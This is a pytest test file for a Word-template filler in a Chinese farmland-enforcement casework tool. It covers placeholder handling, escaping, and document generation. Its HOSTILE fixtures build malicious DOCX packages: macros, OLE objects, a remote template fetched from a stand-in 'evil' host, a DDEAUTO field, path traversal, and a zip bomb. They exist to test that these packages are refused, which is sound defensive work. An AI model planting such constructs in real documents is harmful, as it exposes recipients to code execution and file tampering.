"""Templates as they come from desks: cut placeholders, hostile packages, values that would be markup."""

import random
import time
import zipfile

import pytest

from farmland_guard.casework.filings.paper_values import FILING_KNOWN
from farmland_guard.casework.paper_values import given_values, known_names
from farmland_guard.casework.papers import _LETTERS, copy_for_editing, make_document
from farmland_guard.casework.referring import add_referral
from farmland_guard.documents.docx_build import build_docx
from farmland_guard.documents.docx_fill import BLANK, Filled, check_template, fill_template, fill_xml, placeholders_of
from farmland_guard.documents.docx_package import read_package
from farmland_guard.documents.templates import find_template, own_folder, shipped_templates
from farmland_guard.domain.departments import departments
from farmland_guard.domain.errors import InputError, Refused
from tests.casework.test_signoff import CODE, reclaimed, register, sign  # noqa: F401

CONTENT = '<Types xmlns="x"/>'
START = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
END = "</w:body></w:document>"


def docx(path, body, **members):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", members.pop("types", CONTENT))
        archive.writestr("word/document.xml", members.pop("document", None) or START + body + END)
        for name, data in members.items():
            archive.writestr(name.replace("__", "/"), data)
    return path


def run(*texts):
    return "<w:p>" + "".join(f"<w:r><w:t>{text}</w:t></w:r>" for text in texts) + "</w:p>"


def text_of(path):
    import html
    import re

    xml = read_package(path)["word/document.xml"].decode("utf-8")
    return html.unescape("\n".join("".join(re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", part)) for part in xml.split("</w:p>")))


def filled(xml, **values):
    outcome = Filled()
    return fill_xml(xml, values, outcome), outcome.blanks


@pytest.mark.parametrize("cuts", [["{{名}}"], ["{", "{名}", "}"], ["a{{", "名", "}}b"], ["{{名", "}}{{", "名}}"], ["x", "{{ 名 }}", "y"]])
def test_a_placeholder_cut_into_runs_is_found(cuts):
    xml, blanks = filled(run(*cuts), 名="某")
    assert "".join(cuts).replace(" ", "").replace("{{名}}", "某") in xml.replace('<w:t xml:space="preserve">', "<w:t>").replace(
        "</w:t></w:r><w:r><w:t>", ""
    )
    assert blanks == []


def test_any_cutting_gives_the_same_text():
    seed = int(time.time())
    dice = random.Random(seed)
    whole = "前{{甲}}中{{乙}}{{甲}}后"
    for _ in range(200):
        cuts = sorted(dice.sample(range(1, len(whole)), dice.randint(0, 8)))
        parts = [whole[a:b] for a, b in zip([0, *cuts], [*cuts, len(whole)])]
        xml, _ = filled(run(*parts), 甲="1<2", 乙="&")
        plain = xml
        for tag in ("<w:p>", "</w:p>", "<w:r>", "</w:r>", "<w:t>", '<w:t xml:space="preserve">', "</w:t>"):
            plain = plain.replace(tag, "")
        assert plain == "前1&lt;2中&amp;1&lt;2后", (seed, parts)


def test_values_are_text_and_nothing_else():
    xml, _ = filled(run("{{名}}"), 名='</w:t><w:p>"&\x07\x00\n第二行')
    assert "&lt;/w:t&gt;&lt;w:p&gt;" in xml and "\x07" not in xml and "\x00" not in xml
    assert xml.count("<w:p>") == 1 and "<w:br/>" in xml


def test_a_missing_value_is_a_marked_blank_and_everything_else_stays():
    rest = '<w:p w:rsidR="1"><w:pPr><w:jc w:val="center"/></w:pPr><w:r><w:t> 留 </w:t></w:r></w:p><!-- c --><w:sectPr/>'
    xml, blanks = filled(rest + run("{{无}}{{空}}{{无}}"), 空="")
    assert xml.startswith(rest) and blanks == ["无", "空"] and xml.count(BLANK) == 3


def test_rows_repeat_and_an_empty_list_leaves_blanks():
    table = "<w:tbl><w:tr><w:tc>" + run("头") + "</w:tc></w:tr><w:tr><w:tc>" + run("{{项.甲}}", "{{外}}") + "</w:tc></w:tr></w:tbl>"
    xml, blanks = filled(table, 项=[{"甲": "1"}, {"甲": "2"}], 外="o")
    assert xml.count("<w:tr>") == 3 and "1" in xml and "2" in xml and blanks == []
    xml, blanks = filled(table, 项=[], 外="o")
    assert xml.count("<w:tr>") == 2 and blanks == ["项.甲"]


def test_unknown_and_unclosed_placeholders_are_refused_before_anything_is_written(tmp_path):
    for body, word in ((run("{{天气}}"), "天气"), (run("{{监测编号"), "not closed"), (run("{{监测编号}} {{"), "not closed")):
        source = docx(tmp_path / "t.docx", body)
        with pytest.raises(InputError, match=word):
            fill_template(source, {}, known_names(), tmp_path / "out.docx")
    assert not (tmp_path / "out.docx").exists()


HOSTILE = {
    "doctype": {"document": '<!DOCTYPE a [<!ENTITY x "y">]>' + START + END},
    "cdata": {"document": START + "<![CDATA[x]]>" + END},
    "broken": {"document": START + "<w:p>" + END},
    "utf16": {"document": (START + END).encode("utf-16")},
    "macro": {"word__vbaProject.bin": b"x"},
    "macro type": {"types": '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'},
    "object": {"word__embeddings__oleObject1.bin": b"x"},
    "fetched template": {
        "word___rels__settings.xml.rels": '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
        'Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
    },
    "dde": {"document": START + "<w:p><w:r><w:instrText> DDEAUTO c:\\\\x </w:instrText></w:r></w:p>" + END},
    "outside": {"..__..__evil.txt": b"x"},
}


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_packages_are_refused_by_name(tmp_path, what):
    source = docx(tmp_path / "模板.docx", run("x"), **HOSTILE[what])
    with pytest.raises(InputError, match=r"模板\.docx"):
        fill_template(source, {}, known_names(), tmp_path / "out.docx")
    assert [each.name for each in tmp_path.iterdir()] == ["模板.docx"]


def test_bombs_and_what_is_no_package(tmp_path):
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"0" * (30 * 1024 * 1024))
        archive.writestr("[Content_Types].xml", CONTENT)
    many = docx(tmp_path / "many.docx", "", **{f"m{number}.xml": "<a/>" for number in range(600)})
    text = tmp_path / "a.docx"
    text.write_bytes(b"PK\x03\x04 not really")
    for path in (bomb, many, text, tmp_path / "fehlt.docx"):
        with pytest.raises(InputError, match=path.name):
            placeholders_of(path)


def test_hyperlinks_are_harmless(tmp_path):
    link = ('<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
            'Target="https://www.gov.cn" TargetMode="External"/></Relationships>')  # fmt: skip
    source = docx(tmp_path / "t.docx", run("{{监测编号}}"), **{"word___rels__document.xml.rels": link})
    assert placeholders_of(source) == ["监测编号"]


def test_every_shipped_template_asks_only_for_what_the_register_knows(tmp_path):
    titles = {each.title for each in shipped_templates()}
    assert titles >= {
        "责令停止违法行为通知书", "土地违法线索登记表", "立案呈批表", "整改通知书", "移送函", "强制执行申请书", "复耕耕地质量验收意见书",
        "验收合格确认书", "违法图斑销号表", "核验意见", "提醒函",
    }  # fmt: skip
    for each in shipped_templates():
        path = build_docx(each.description, tmp_path / f"{each.id}.docx")
        assert check_template(path, known_names() | FILING_KNOWN if each.needs == "filing" else known_names())
        members = read_package(path)
        document = members["word/document.xml"].decode("utf-8")
        assert 'w:w="11906" w:h="16838"' in document and b"NUMPAGES" in members["word/footer1.xml"]
        assert b"Noto Sans CJK SC" in members["word/fontTable.xml"] and '"仿宋"' in document
        assert build_docx(each.description, tmp_path / "again.docx").read_bytes() == path.read_bytes()


def test_every_letter_of_the_departments_has_a_template():
    kinds = {letter.type for department in departments() for letter in department.letters}
    assert set(_LETTERS) <= kinds
    for template in _LETTERS.values():
        assert find_template(template).needs in ("referral", "case")


def test_a_paper_of_a_case_a_task_and_a_referral(register, tmp_path):  # noqa: F811
    task = reclaimed(register)
    paper = make_document(register, CODE, "rectification_notice", tmp_path / "通知", {"文号": "垣自然整〔2026〕1号"})
    text = text_of(paper.path)
    assert paper.path.name == "通知.docx" and CODE in text and task in text and "垣自然整〔2026〕1号" in text and "皋落乡" in text
    assert "计划拆除亩" in paper.blanks and "责任单位" not in paper.blanks
    assert task in text_of(make_document(register, task, "提醒函", tmp_path / "b.docx").path)
    uid = add_referral(register, CODE, "housing", "", "王执法")
    text = text_of(make_document(register, uid, "inform_letter", tmp_path / "c.docx").path)
    assert "住房和城乡建设局" in text and "缺：现场照片" in text and "{{" not in text
    for code, template, word in (("NIX", "提醒函", "no case, task"), (CODE, "情书", "no template"), (CODE, str(tmp_path / "x.docx"), "not exist")):
        with pytest.raises(InputError, match=word):
            make_document(register, code, template, tmp_path / "d.docx")


def test_a_certificate_is_not_made_before_the_acceptance_holds(register, tmp_path):  # noqa: F811
    task = reclaimed(register)
    with pytest.raises(Refused, match="不能出具"):
        make_document(register, CODE, "acceptance_certificate", tmp_path / "a.docx")
    sign(register, task, "agriculture")
    sign(register, task, "natural_resources")
    text = text_of(make_document(register, CODE, "acceptance_certificate", tmp_path / "a.docx").path)
    assert "合格" in text and "李农业 站长" in text and "王执法" in text


def test_the_countys_own_template_counts(register, tmp_path):  # noqa: F811
    folder, written, kept = copy_for_editing(register)
    assert folder == own_folder(register.path) and len(written) == len(shipped_templates()) and kept == []
    own = docx(folder / "提醒函.docx", run("本县自己的提醒：{{监测编号}}"))
    assert copy_for_editing(register)[1:] == ([], written)
    reclaimed(register)
    assert text_of(make_document(register, CODE, "reminder", tmp_path / "r.docx").path).startswith("本县自己的提醒")
    docx(own, run("{{乱写}}"))
    with pytest.raises(InputError, match="乱写"):
        make_document(register, CODE, "reminder", tmp_path / "r.docx")


def test_values_of_the_officer():
    assert given_values("文号＝1号\n\n联系人=王") == {"文号": "1号", "联系人": "王"}
    assert given_values('{"文号": "2号"}') == {"文号": "2号"}
    for text in ("{坏", "天气=晴"):
        with pytest.raises(InputError):
            given_values(text)
